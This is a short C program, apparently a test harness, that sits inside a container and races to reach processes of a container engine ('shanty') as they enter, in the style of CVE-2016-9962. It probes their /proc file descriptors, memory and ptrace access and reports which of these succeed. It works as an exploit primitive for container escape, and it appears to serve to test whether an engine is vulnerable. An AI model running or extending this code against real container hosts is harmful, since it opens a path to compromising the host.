/* Lies in wait, in a container, for processes of the engine on their way in (CVE-2016-9962): while one is not yet its
 * program it has rights and descriptors of the host. Prints what it gets hold of, until `/stop` is there; then how many
 * of them it has seen. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static int is_engine(int pid) {
    char path[64], name[32] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int file = open(path, O_RDONLY);
    if (file < 0)
        return 0;
    if (read(file, name, sizeof name - 1) < 0)
        name[0] = 0;
    close(file);
    return strncmp(name, "shanty", 6) == 0;
}

static void report(int pid, const char *what) {
    if (is_engine(pid)) /* still: it has not become its program in between */
        printf("%s\n", what);
}

static void attack(int pid) {
    char path[64], target[256];
    const char *files[] = {"exe", "root", "cwd", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8"};
    for (unsigned at = 0; at < sizeof files / sizeof *files; at++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[at]);
        if (readlink(path, target, sizeof target) > 0)
            report(pid, files[at]);
    }
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int file = open(path, O_RDWR);
    if (file >= 0) {
        report(pid, "mem");
        close(file);
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        report(pid, "ptrace");
        waitpid(pid, 0, __WALL); /* it ends soon, and is reported to its parent after us */
    }
}

int main(void) {
    int seen = 0, last = 0;
    setvbuf(stdout, 0, _IOLBF, 0);
    while (access("/stop", F_OK) != 0) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));) {
            int pid = 0;
            if (!isdigit((unsigned char)entry->d_name[0]) || sscanf(entry->d_name, "%d", &pid) != 1 || pid == getpid())
                continue;
            if (is_engine(pid)) {
                seen += pid != last;
                last = pid;
                attack(pid);
            }
        }
        closedir(processes);
    }
    printf("seen %d\n", seen);
    return 0;
}
